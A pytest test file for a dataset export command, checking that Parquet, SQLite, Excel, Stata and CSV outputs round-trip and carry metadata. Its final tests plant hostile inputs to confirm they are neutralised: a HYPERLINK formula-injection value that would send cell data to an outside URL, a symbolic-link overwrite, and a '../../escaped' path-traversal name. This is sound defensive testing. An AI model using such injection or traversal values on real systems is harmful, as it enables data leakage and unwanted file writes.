"""`zhanaozen export`: each format read back with its own reader equals what load() returns, and carries the
version, licence, citation and every column's description and vocabulary in the form its reader shows."""
from __future__ import annotations

import json
import shutil
import sqlite3
import zipfile
from pathlib import Path

import pandas as pd
import pytest

import zhanaozen
from zhanaozen.loading.tables import shipped_package

from support import assemble, cli, digests, run

# The module fixtures (every format exported once) are shared by its tests on one worker.
pytestmark = pytest.mark.xdist_group("export")
STEM = f"zhanaozen-prosecutions-{zhanaozen.__version__}"


@pytest.fixture(scope="module")
def loaded() -> dict[str, pd.DataFrame]:
    return zhanaozen.load_all()


@pytest.fixture(scope="module")
def package():
    return shipped_package()


def export(*args: str) -> tuple[int, list[Path], str]:
    """``zhanaozen export ARGS`` in process (support.cli): exit status, the files it lists, its errors."""
    result = cli("export", *args)
    return result.returncode, [Path(line) for line in result.stdout.splitlines()], result.stderr


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> Path:
    """Every format of the installed dataset, written once for this module."""
    out = tmp_path_factory.mktemp("export")
    code, paths, err = export("--format", "all", "--out", str(out))
    assert code == 0, err
    assert sorted(p.name for p in paths) == sorted(p.name for p in out.iterdir())
    return out


def retyped(frame: pd.DataFrame, like: pd.DataFrame) -> pd.DataFrame:
    """A read-back frame in load()'s dtypes (formats without pandas metadata store plainer types)."""
    out = pd.DataFrame(index=range(len(frame)))
    for column in like.columns:
        dtype = like[column].dtype
        values = frame[column]
        if dtype.kind == "M":
            out[column] = pd.to_datetime(values).astype(dtype)
        elif isinstance(dtype, pd.CategoricalDtype) or dtype == "string":
            out[column] = values.astype(object).where(values.notna() & (values.astype(str) != ""), None).astype(dtype)
        else:
            out[column] = values.astype(dtype)
    return out


def test_file_names_carry_the_version(exported, loaded):
    names = {p.name for p in exported.iterdir()}
    expected = {f"{STEM}.sqlite", f"{STEM}.xlsx", f"{STEM}-csv.zip", f"{STEM}-README.txt"}
    expected |= {f"{STEM}-{name}.{ext}" for name in loaded for ext in ("parquet", "dta")}
    assert names == expected
    readme = (exported / f"{STEM}-README.txt").read_text(encoding="utf-8")
    assert zhanaozen.cite("text").splitlines()[0] in readme and "CC-BY-4.0" in readme


def test_parquet_round_trips_and_carries_the_schema(exported, loaded, package):
    import pyarrow as pa
    import pyarrow.parquet as pq

    for name, frame in loaded.items():
        table = pq.read_table(exported / f"{STEM}-{name}.parquet")
        meta = {k.decode(): v.decode() for k, v in table.schema.metadata.items()}
        assert meta["version"] == zhanaozen.__version__ and meta["licence"] == "CC-BY-4.0"
        assert meta["citation"] == zhanaozen.cite("text") and meta["table"] == name
        for field in package.tables[name].fields:
            arrow = table.schema.field(field.name)
            assert arrow.metadata[b"description"].decode() == field.description
            assert arrow.nullable == (not field.required), (name, field.name)
            if field.enum:
                assert pa.types.is_dictionary(arrow.type)
                assert list(json.loads(arrow.metadata[b"vocabulary"])) == list(field.enum)
        for column in frame.columns:
            if frame[column].dtype.kind == "M":
                assert table.schema.field(column).type == pa.date32(), column
        pd.testing.assert_frame_equal(retyped(table.to_pandas(), frame), frame.reset_index(drop=True))


def test_sqlite_has_meta_dictionary_lookups_and_clean_keys(exported, loaded, package):
    db = sqlite3.connect(exported / f"{STEM}.sqlite")
    meta = dict(db.execute("SELECT key, value FROM _meta"))
    assert meta["version"] == zhanaozen.__version__ and meta["citation"] == zhanaozen.cite("text")
    assert meta["licence"] == "CC-BY-4.0"
    types = {row[0] for row in db.execute("SELECT DISTINCT sql_type FROM _dictionary")}
    assert types <= {"TEXT", "INTEGER", "REAL"}  # SQL types, never pandas dtypes
    for name, frame in loaded.items():
        back = pd.read_sql(f'SELECT * FROM "{name}"', db)
        pd.testing.assert_frame_equal(retyped(back, frame), frame.reset_index(drop=True))
        table = package.tables[name]
        declared = {(row[2], row[3], row[4]) for row in db.execute(f"PRAGMA foreign_key_list('{name}')")}
        expected = {(fk.resource, f, r) for fk in table.foreign_keys for f, r in zip(fk.fields, fk.reference_fields)}
        expected |= {(f"_values_{name}_{f.name}", f.name, "value") for f in table.fields if f.enum}
        assert declared == expected, name
        for field in table.fields:
            if field.enum:
                values = [v for v, in db.execute(f'SELECT value FROM "_values_{name}_{field.name}" ORDER BY position')]
                assert values == list(field.enum)
            described = db.execute("SELECT description FROM _dictionary WHERE table_name = ? AND column_name = ?",
                                   (name, field.name)).fetchone()
            assert described == (field.description,)
    assert db.execute("PRAGMA foreign_key_check").fetchall() == []
    if shutil.which("sqlite3"):  # the command-line client too
        check = run("sqlite3", str(exported / f"{STEM}.sqlite"), "PRAGMA foreign_key_check;")
        assert check.returncode == 0 and check.stdout == "", check.stderr
    joined = db.execute("SELECT count(*) FROM sentences s JOIN persons p ON p.person_id = s.person_id "
                        "JOIN trials t ON t.trial_id = s.trial_id").fetchone()[0]
    assert joined == len(loaded["sentences"])


def test_xlsx_has_dates_header_properties_and_a_plain_readme(exported, loaded):
    import openpyxl

    path = exported / f"{STEM}.xlsx"
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["README"] + list(loaded)
    assert book.properties.version == zhanaozen.__version__
    assert book.properties.title == f"The Zhanaozen Prosecutions Dataset {zhanaozen.__version__}"
    readme = [[c for c in row if c is not None] for row in book["README"].iter_rows(values_only=True)]
    assert ["version", zhanaozen.__version__] in readme and ["citation", zhanaozen.cite("text")] in readme
    text = " ".join(str(c) for row in readme for c in row)
    assert not any(dtype in text for dtype in ("Int64", "category", "datetime64", "boolean"))
    sheet = book["sentences"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.column_dimensions["L"].width > sheet.column_dimensions["A"].width  # notes wider than IDs
    header = [cell.value for cell in sheet[1]]
    dates = [cell for row in sheet.iter_rows(min_row=2) for cell in row
             if header[cell.column - 1].endswith("_earliest") and cell.value is not None]
    assert dates and all(cell.is_date and cell.number_format == "yyyy-mm-dd" for cell in dates)
    for name, frame in loaded.items():
        back = pd.read_excel(path, sheet_name=name, engine="openpyxl", dtype=object)  # no guessing: "241" stays text
        pd.testing.assert_frame_equal(retyped(back, frame), frame.reset_index(drop=True))


def test_stata_has_value_labels_whole_word_labels_and_round_trips(exported, loaded, package):
    for name, frame in loaded.items():
        path = exported / f"{STEM}-{name}.dta"
        with pd.io.stata.StataReader(path) as reader:
            labels = reader.value_labels()
            variable_labels = reader.variable_labels()
            data_label = reader.data_label
        assert zhanaozen.__version__ in data_label
        for field in package.tables[name].fields:
            if field.enum:
                assert list(labels[field.name].values()) == list(field.enum), (name, field.name)
            label = variable_labels[field.name]
            assert len(label) <= 80
            kept = label.removesuffix("…")
            description = " ".join(field.description.split())
            assert description.startswith(kept)
            assert kept == description or not description[len(kept)].isalnum(), label  # cut between words
        back = pd.read_stata(path, order_categoricals=False)
        pd.testing.assert_frame_equal(retyped(back, frame), frame.reset_index(drop=True))


def test_csv_is_a_frictionless_package_of_the_chosen_tables(tmp_path):
    from frictionless import Package

    code, [path], err = export("--format", "csv", "--tables", "sentences", "persons", "--out", str(tmp_path))
    assert code == 0, err
    with zipfile.ZipFile(path) as archive:
        archive.extractall(tmp_path / "unzipped")
    descriptor = json.loads((tmp_path / "unzipped" / "datapackage.json").read_text(encoding="utf-8"))
    assert [r["name"] for r in descriptor["resources"]] == ["persons", "sentences"]
    assert descriptor["version"] == zhanaozen.__version__
    readme = (tmp_path / "unzipped" / "README.txt").read_text(encoding="utf-8")
    assert zhanaozen.cite("text").splitlines()[0] in readme and "Table sentences" in readme
    sentences = descriptor["resources"][1]["schema"]
    assert {fk["reference"]["resource"] for fk in sentences["foreignKeys"]} == {"persons"}  # trials not exported
    report = Package(str(tmp_path / "unzipped" / "datapackage.json")).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:5]


def test_tables_selects_and_an_unknown_table_writes_nothing(tmp_path, loaded):
    code, paths, err = export("--format", "sqlite", "--tables", "trials", "sentences", "--out", str(tmp_path))
    assert code == 0, err
    db = sqlite3.connect(paths[0])
    names = {n for n, in db.execute("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE '\\_%' "
                                    "ESCAPE '\\'")}
    assert names == {"trials", "sentences"}
    assert db.execute("PRAGMA foreign_key_check").fetchall() == []
    empty = tmp_path / "empty"
    code, _, err = export("--format", "all", "--tables", "nope", "--out", str(empty))
    assert code == 2 and "nope" in err and "Traceback" not in err and not empty.exists()


def test_exports_a_package_path(tmp_path):
    package = assemble(tmp_path / "pkg")
    code, [path], err = export(str(package), "--format", "sqlite", "--out", str(tmp_path / "out"))
    assert code == 0, err
    count = sqlite3.connect(path).execute("SELECT count(*) FROM persons").fetchone()[0]
    assert count == len(pd.read_csv(package / "data" / "persons.csv"))


def _with_description(package: Path, table: str, field: str, description: str) -> None:
    path = package / "schemas" / f"{table}.json"
    schema = json.loads(path.read_text(encoding="utf-8"))
    next(f for f in schema["fields"] if f["name"] == field)["description"] = description
    path.write_text(json.dumps(schema, ensure_ascii=False), encoding="utf-8")


def test_no_formula_from_a_schema_description_reaches_the_workbook(tmp_path):
    import openpyxl

    package = assemble(tmp_path / "pkg")
    formula = '=HYPERLINK("https://example.org/?"&A1,"click")'
    _with_description(package, "persons", "notes", formula)
    code, [path], err = export(str(package), "--format", "xlsx", "--out", str(tmp_path / "out"))
    assert code == 0, err
    cells = [c for row in openpyxl.load_workbook(path)["README"].iter_rows() for c in row if c.value == formula]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    with zipfile.ZipFile(path) as archive:  # no <f> element anywhere: Excel evaluates nothing
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in archive.namelist())


def test_refuses_to_write_through_a_symbolic_link(tmp_path):
    outside = tmp_path / "outside.sqlite"
    outside.write_bytes(b"keep me")
    out = tmp_path / "out"
    out.mkdir()
    (out / f"{STEM}.sqlite").symlink_to(outside)
    code, _, err = export("--format", "sqlite", "--out", str(out))
    assert code == 1 and "symbolic link" in err and "Traceback" not in err
    assert outside.read_bytes() == b"keep me"
    (tmp_path / "linked").symlink_to(out, target_is_directory=True)
    code, _, err = export("--format", "sqlite", "--out", str(tmp_path / "linked"))
    assert code == 1 and "symbolic link" in err
    assert sorted(p.name for p in out.iterdir()) == [f"{STEM}.sqlite"]  # no staging folder left behind


def test_a_hostile_package_name_cannot_choose_where_files_go(tmp_path):
    package = assemble(tmp_path / "pkg")
    descriptor = json.loads((package / "datapackage.json").read_text(encoding="utf-8"))
    descriptor["name"] = "../../escaped"
    (package / "datapackage.json").write_text(json.dumps(descriptor), encoding="utf-8")
    before = digests(tmp_path)
    code, _, err = export(str(package), "--format", "csv", "--out", str(tmp_path / "out"))
    assert code == 1 and "cannot be used in a file name" in err and "Traceback" not in err
    after = digests(tmp_path)
    assert after == before
